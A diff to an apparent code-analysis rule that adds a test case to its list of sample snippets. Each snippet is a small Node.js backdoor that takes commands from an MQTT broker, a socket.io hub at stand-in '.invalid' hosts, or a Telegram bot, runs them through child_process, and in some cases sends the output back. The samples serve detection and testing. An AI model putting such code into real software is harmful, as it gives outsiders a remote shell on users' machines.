@@ -141,6 +141,10 @@ export default defineRule({
         code: `const mqtt = require('mqtt'), { execSync } = require('child_process'), fs = require('fs');\nconst acts = { run: line => execSync(line), put: ({ path, text }) => fs.writeFileSync(path, text) };\nconst line = mqtt.connect('mqtts://broker.invalid');\nline.on('message', (topic, message) => {\n  const { act, of } = JSON.parse(message.toString());\n  acts[act]?.(of);\n});`,
       },
       {
+        title: 'a message names a method of a class',
+        code: `const io = require('socket.io-client'), cp = require('child_process');\nconst line = io('https://hub.invalid');\nclass Desk {\n  run(order) { cp.exec(order, (error, out) => line.emit('done', out)); }\n  list(path) { return require('fs').readdirSync(path); }\n}\nconst desk = new Desk();\nline.on('task', task => desk[task.act](task.of));`,
+      },
+      {
         title: 'a bot of its own does what it is written',
         code: `const { Telegraf } = require('telegraf'), { exec } = require('child_process');\nconst bot = new Telegraf('123456789:AAaaBBbbCCccDDddEEeeFFffGGggHHhhIIi');\nbot.on('text', chat => exec(chat.message.text, (error, out) => chat.reply(out)));`,
       },
